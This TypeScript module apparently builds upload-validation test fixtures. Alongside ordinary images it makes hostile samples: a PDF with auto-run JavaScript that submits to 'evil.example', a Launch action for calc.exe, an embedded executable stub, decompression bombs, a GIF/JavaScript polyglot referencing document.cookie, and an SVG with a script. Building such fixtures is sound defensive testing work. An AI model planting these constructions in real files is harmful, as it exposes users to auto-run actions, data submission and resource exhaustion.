import { deflateSync } from "node:zlib";
import sharp from "sharp";

/** Files as people send them, and as nobody should; all made here. */
export const png = (width = 40, height = 30): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, background: "#7a9" } })
    .png()
    .toBuffer();

export const jpeg = (width = 400, height = 300): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, background: "#7a9" } })
    .jpeg()
    .toBuffer();

/** Photographed with the camera on its side, with the place and the maker's words in it. */
export const photographWithPlace = (): Promise<Buffer> =>
  sharp({ create: { width: 400, height: 300, channels: 3, background: "#7a9" } })
    .withMetadata({ orientation: 6 })
    .withExifMerge({ IFD0: { Copyright: "MAKERS-WORDS" }, IFD3: { GPSLatitude: "18/1 31/1 0/1" } })
    .jpeg()
    .toBuffer();

type PdfParts = {
  readonly pages?: number;
  readonly text?: readonly string[];
  /** More of the catalog, and objects from number 100 on that it speaks of. */
  readonly catalog?: string;
  readonly objects?: readonly string[];
  readonly trailer?: string;
  /** What is drawn instead of the text, deflated already. */
  readonly deflated?: Buffer;
};

export function pdf(parts: PdfParts = {}): Buffer {
  const { pages = 1, text = ["Hello"], catalog = "", objects = [], trailer = "", deflated } = parts;
  const numbers = Array.from({ length: pages }, (_, index) => 10 + index);
  const shown = text.map((line, index) => `${index === 0 ? "72 760 Td" : "0 -24 Td"} (${line}) Tj`).join("\n");
  const content = deflated
    ? Buffer.concat([Buffer.from(`<</Length ${deflated.length}/Filter/FlateDecode>>stream\n`), deflated, end])
    : Buffer.from(`<</Length ${shown.length + 20}>>stream\nBT /F1 18 Tf ${shown} ET\nendstream`);
  const page = "/Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>";
  const kids = numbers.map((number) => `${number} 0 R`).join(" ");
  return withTable(trailer, [
    object(1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`),
    object(2, `<</Type/Pages/Kids[${kids}]/Count ${pages}>>`),
    object(4, content),
    object(5, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"),
    ...numbers.map((number) => object(number, `<<${page}>>`)),
    ...objects.map((body, index) => object(100 + index, body)),
  ]);
}

/** With the table of where each object begins. */
function withTable(trailer: string, objects: readonly Buffer[]): Buffer {
  let at = 0;
  const pieces = [Buffer.from("%PDF-1.7\n"), ...objects];
  const places = pieces.map((piece) => {
    at += piece.length;
    return at - piece.length;
  });
  const rows = objects.map((body, index) => {
    const number = Number.parseInt(body.toString("latin1"), 10);
    return `${number} 1\n${String(places[index + 1]).padStart(10, "0")} 00000 n \n`;
  });
  const table = `xref\n0 1\n0000000000 65535 f \n${rows.join("")}`;
  const foot = `trailer\n<</Size 200/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([...pieces, Buffer.from(table + foot)]);
}

const end = Buffer.from("\nendstream");

const object = (number: number, body: string | Buffer): Buffer =>
  Buffer.concat([Buffer.from(`${number} 0 obj`), Buffer.from(body), Buffer.from("\nendobj\n")]);

/** Opens with a password that nobody has told us. */
export const pdfWithPassword = (): Buffer => {
  const hex = "ab".repeat(32);
  const lock = `<</Filter/Standard/V 1/R 2/Length 40/P -44/O<${hex}>/U<${hex}>>>`;
  return pdf({ objects: [lock], trailer: `/Encrypt 100 0 R/ID[<${hex.slice(0, 32)}><${hex.slice(0, 32)}>]` });
};

/** Everything a PDF may bring to do something by itself. */
export const pdfThatActs = (): Buffer =>
  pdf({
    catalog:
      "/OpenAction 100 0 R/AA<</WC 101 0 R>>/Names<</JavaScript<</Names[(a) 100 0 R]>>/EmbeddedFiles<</Names[(x.exe) 102 0 R]>>>>",
    objects: [
      "<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('http://evil.example'\\))>>",
      "<</S/Launch/F(calc.exe)>>",
      "<</Type/Filespec/F(x.exe)/EF<</F 103 0 R>>>>",
      "<</Type/EmbeddedFile/Length 12>>stream\nMZ-HARMFUL!!\nendstream",
    ],
  });

export const formThatDrawsItself = (): Buffer => {
  const xdp = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>';
  return pdf({
    catalog: "/AcroForm<</XFA 100 0 R/Fields[]>>",
    objects: [`<</Length ${xdp.length}>>stream\n${xdp}\nendstream`],
  });
};

/** Half a megabyte that is half a gigabyte once it is opened. */
export const pdfThatSwells = (): Buffer =>
  pdf({ deflated: deflateSync(Buffer.alloc(512 * 1024 * 1024, 32), { level: 1 }) });

/** A PNG that says it is as large as a country. */
export function pngThatSwells(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(60_000, 0);
  header.writeUInt32BE(60_000, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const signature = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]);
  return Buffer.concat([
    signature,
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(1_000_000))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

function chunk(name: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

function crc32(bytes: Buffer): number {
  let rest = 0xffffffff;
  for (const byte of bytes) {
    rest ^= byte;
    for (let bit = 0; bit < 8; bit += 1) rest = rest & 1 ? (rest >>> 1) ^ 0xedb88320 : rest >>> 1;
  }
  return (rest ^ 0xffffffff) >>> 0;
}

export const gifThatIsAScript = Buffer.from("GIF89a/*\u0000\u0000*/=1;alert(document.cookie);//");
export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
);
export const heic = Buffer.concat([
  Buffer.from([0, 0, 0, 24]),
  Buffer.from("ftypheic\u0000\u0000\u0000\u0000mif1heic"),
  Buffer.alloc(64),
]);
export const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4, 20, 0, 0, 0, 8, 0]), Buffer.alloc(4_000)]);
export const scriptBeforePdf = (): Buffer => Buffer.concat([Buffer.from("alert(1)/*\n"), pdf(), Buffer.from("*/")]);
export const pictureWithPdfBehind = async (): Promise<Buffer> => Buffer.concat([await jpeg(), pdf(), zip]);
